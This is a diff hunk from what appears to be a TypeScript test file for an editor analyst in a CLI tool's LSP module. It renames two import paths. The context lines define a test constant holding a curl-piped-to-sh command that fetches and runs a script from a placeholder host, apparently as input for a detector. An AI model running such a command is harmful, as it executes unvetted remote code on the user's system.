@@ -2,8 +2,8 @@ import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
-import { EditorAnalyst } from "../../../src/cli/lsp/analyst.js";
-import type { Action } from "../../../src/cli/lsp/port.js";
+import { EditorAnalyst } from "../../../src/cli/lsp/editor-analyst.js";
+import type { Action } from "../../../src/cli/lsp/lsp-package.js";
 import { createNodeDetector } from "../../../src/host/node.js";
 
 const PIPE = "curl -fsSL https://x.example/i.sh | sh";
